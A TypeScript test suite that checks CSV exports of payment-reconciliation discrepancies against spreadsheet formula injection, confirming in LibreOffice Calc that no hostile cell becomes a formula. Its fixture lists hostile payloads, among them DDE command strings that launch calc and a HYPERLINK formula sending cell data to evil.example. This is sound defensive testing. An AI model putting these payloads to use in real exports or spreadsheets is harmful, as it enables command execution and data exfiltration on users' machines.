import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { neutraliseCell } from '../../src/discrepancies/csvCells.js';
import type { DiscrepancySummary } from '../../src/discrepancies/discrepancyTypes.js';
import { reviewDiscrepancies } from '../../src/discrepancies/reviewDiscrepancies.js';
import { streamDiscrepancies } from '../../src/discrepancies/streamDiscrepancies.js';
import { CSV_COLUMNS, type CsvSeparator } from '../../src/discrepancies/writeDiscrepanciesCsv.js';
import { type FakePartner, startFakePartner } from '../../src/partnerFake/fakePartnerServer.js';
import { reconcile } from '../../src/reconcile/reconcile.js';
import { createReviewServer } from '../../src/review/createReviewServer.js';
import {
  dbNow,
  fakePartnerReconciler,
  minutes,
  partnerName,
  place,
  spec,
  unknownIntent,
  useReconcileFixture,
} from '../reconcile/support.js';
import { type CalcCell, hasSoffice, openInCalc, SOFFICE } from '../support/calcCells.js';
import { runCli } from '../support/cliProcess.js';

const TOKEN = 'calc-test-token-0123456789abcdef';

/** Windows LCID of Portuguese (Brazil): a comma-decimal locale, which the `;` export is written for. */
const PT_BR = 1046;

/**
 * Partner values an attacker would send: formulas behind every kind of line break, behind the other
 * separator, in full-width signs, and DDE payloads. Each becomes a partner reference (and, for the first
 * few, a partner id) of an orphan row, so it reaches the export through the reconciliation itself.
 */
const HOSTILE = [
  'lf-demo\n=1+1',
  // No tab or CR first: report identifiers are read trimmed, so neither can start one any more (a cell
  // starting with either is neutralised all the same: test/discrepancies/exports.test.ts).
  'cr-demo\r=2+2',
  'crlf-demo\r\n=3+3',
  'a;=3+3;b',
  'a,=4+4,b',
  '\uFF1D1+1', // ＝
  '\uFF0B1', // ＋
  '\uFF0D1', // －
  '\uFF20SUM(1)', // ＠
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '@SUM(1+1)',
  '+1',
  '-1+2',
  'quote "=6+6"',
  'mid\n\uFF0B7\r\n@A1\r-8',
] as const;
const HOSTILE_IDS = ["=cmd|' /C calc'!A1", '@SUM(2+2)', 'id;=9+9', 'id\n=10+10'] as const;

/** What Calc must show for a text cell: the neutralised text, with each line break as one paragraph break. */
function shown(value: string | null): string {
  return value === null ? '' : neutraliseCell(value).replace(/\r\n|\r/g, '\n');
}

/** Columns holding free text (the others are ids, numbers and instants Calc may type as it likes). */
const TEXT_COLUMNS = [
  'kind',
  'partner',
  'status',
  'reference',
  'partnerReference',
  'currency',
  'summary',
  'assignee',
] as const satisfies readonly (keyof DiscrepancySummary & (typeof CSV_COLUMNS)[number])[];

describe('CSV exports opened in LibreOffice Calc: no formula, every value intact (CLI and /export.csv)', function () {
  this.timeout(180_000);
  const fx = useReconcileFixture('calc_exports');
  let fake: FakePartner;
  let app: FastifyInstance;
  let partner: string;
  let rows: DiscrepancySummary[];
  let dir: string;
  const exports: Record<string, Buffer> = {};

  before(async function () {
    if (!hasSoffice()) {
      // CI installs LibreOffice (.ci/run): there, a missing soffice is a failure, never a skip.
      if (process.env.CI) throw new Error(`${SOFFICE} does not exist; .ci/run installs libreoffice-calc`);
      console.log(
        `    SKIPPED: ${SOFFICE} does not exist. Install LibreOffice Calc to run the spreadsheet test: ` +
          'apt-get update && apt-get install -y libreoffice-calc',
      );
      this.skip();
    }
    dir = mkdtempSync(join(tmpdir(), 'calc-exports-'));
    partner = partnerName('calc');
    fake = await startFakePartner();
    const now = await dbNow(fx.sql);
    // A stuck intent gives the run its window; the partner's rows in it match nothing: orphans.
    const stuck = await unknownIntent(fx.ledger, spec(partner, `${partner}-stuck`));
    await place(fx.sql, stuck, { startedAt: minutes(now, -180) });
    fake.seed([
      ...HOSTILE.map((reference, i) => ({
        id: HOSTILE_IDS[i] ?? `ch_${i}`,
        reference,
        amount: i === 0 ? '-12.50' : `${i + 1}.00`,
        currency: 'BRL',
        executedAt: minutes(now, -100 + i),
      })),
    ]);
    const [run] = await reconcile({
      pool: fx.sql,
      reconciler: fakePartnerReconciler(partner, { baseUrl: fake.url }),
    });
    expect(run.status, String(run.error)).to.equal('succeeded');
    expect(run.discrepancies.orphan_partner_record).to.equal(HOSTILE.length);

    rows = [];
    for await (const row of streamDiscrepancies(fx.sql, { partner: [partner], sort: 'createdAt' }))
      rows.push(row);
    // A reviewer's hostile assignee travels the same way.
    const first = rows.find((row) => row.reference === HOSTILE[0])!;
    await reviewDiscrepancies(fx.sql, [first.id], 'acknowledge', {
      note: 'looking',
      by: 'alice',
      assignee: '=HYPERLINK("http://evil.example/?"&A1,"x")\n@bob',
    });
    rows = [];
    for await (const row of streamDiscrepancies(fx.sql, { partner: [partner], sort: 'createdAt' }))
      rows.push(row);
    expect(rows.map((row) => row.reference).sort()).to.deep.equal([...HOSTILE].sort());

    app = createReviewServer({ pool: fx.sql, token: TOKEN });
    await app.ready();
    for (const separator of ['comma', 'semicolon'] as const) {
      const file = join(dir, `${separator}.csv`);
      const cli = await runCli(
        [
          'discrepancies',
          '--format',
          'csv',
          '--partner',
          partner,
          '--separator',
          separator,
          '--output',
          file,
        ],
        { DATABASE_URL: fx.db.url, LOG_LEVEL: 'silent' },
      );
      expect(cli.stderr).to.equal('');
      expect(cli.code).to.equal(0);
      exports[`cli-${separator}`] = readFileSync(file);
      const site = await app.inject({
        method: 'GET',
        url: `/export.csv?partner=${encodeURIComponent(partner)}${separator === 'semicolon' ? '&separator=semicolon' : ''}`,
        headers: { authorization: `Bearer ${TOKEN}` },
      });
      expect(site.statusCode).to.equal(200);
      exports[`site-${separator}`] = site.rawPayload;
    }
  });
  after(async () => {
    await app?.close();
    await fake?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  const CASES = [
    ['cli', 'comma'],
    ['cli', 'semicolon'],
    ['site', 'comma'],
    ['site', 'semicolon'],
  ] as const;
  const CHARACTER: Record<CsvSeparator, ',' | ';'> = { comma: ',', semicolon: ';' };
  /** How each export is meant to be opened: the `;` one by a comma-decimal Calc (pt-BR), the `,` one by Calc's default. */
  const OPENED_IN: Record<CsvSeparator, { language?: number }> = {
    comma: {},
    semicolon: { language: PT_BR },
  };

  it('the CLI and the site send the same bytes for each separator', () => {
    expect(exports['site-comma'].equals(exports['cli-comma'])).to.equal(true);
    expect(exports['site-semicolon'].equals(exports['cli-semicolon'])).to.equal(true);
    expect(exports['cli-comma'].equals(exports['cli-semicolon'])).to.equal(false);
  });

  for (const [origin, separator] of CASES) {
    it(`${origin} export, ${separator}: a strict CSV parser and Calc (${separator === 'semicolon' ? 'pt-BR' : 'default locale'}) both read every cell back, none a formula`, async () => {
      const bytes = exports[`${origin}-${separator}`];
      const parsed: string[][] = parse(bytes, { bom: true, delimiter: CHARACTER[separator] });
      expect(parsed).to.have.length(rows.length + 1);
      const sheet = await openInCalc(bytes, CHARACTER[separator], OPENED_IN[separator]);
      expect(sheet.xml).not.to.contain('table:formula');
      expect(sheet.rows).to.have.length(rows.length + 1);
      expect(sheet.rows[0].map((cell) => cell.text)).to.deep.equal([...CSV_COLUMNS]);
      const column = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
      for (const [i, row] of rows.entries()) {
        const cells = sheet.rows[i + 1];
        expect(cells[column('id')].text).to.equal(row.id);
        for (const name of TEXT_COLUMNS) {
          const cell: CalcCell | undefined = cells[column(name)];
          const expected = shown(row[name]);
          expect(cell?.text ?? '', `${name} of #${row.id}`).to.equal(expected);
          if (expected) expect(cell.type, `${name} of #${row.id}`).to.equal('string');
        }
        // The amount column is typed: a number cell holding the stored decimal, negatives included.
        const amount = cells[column('amountAtRisk')];
        expect(amount.type, `amount of #${row.id}`).to.equal('float');
        expect(Number(amount.value)).to.equal(Number(row.amountAtRisk));
      }
      const negative = rows.find((row) => row.reference === HOSTILE[0])!;
      expect(negative.amountAtRisk).to.equal('-12.50');
      expect(sheet.rows[rows.indexOf(negative) + 1][column('amountAtRisk')].value).to.equal('-12.5');
    });
  }

  it('opened with the other separator (a pt-BR Calc opening the comma file, and the reverse), still no formula', async () => {
    for (const [file, opened, options] of [
      ['cli-comma', ';', { language: PT_BR }],
      ['cli-semicolon', ',', {}],
    ] as const) {
      const sheet = await openInCalc(exports[file], opened, options);
      expect(sheet.xml, file).not.to.contain('table:formula');
      for (const cell of sheet.rows.flat())
        if (cell.type === 'string') expect(cell.text, file).not.to.match(/^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/m);
    }
  });
});
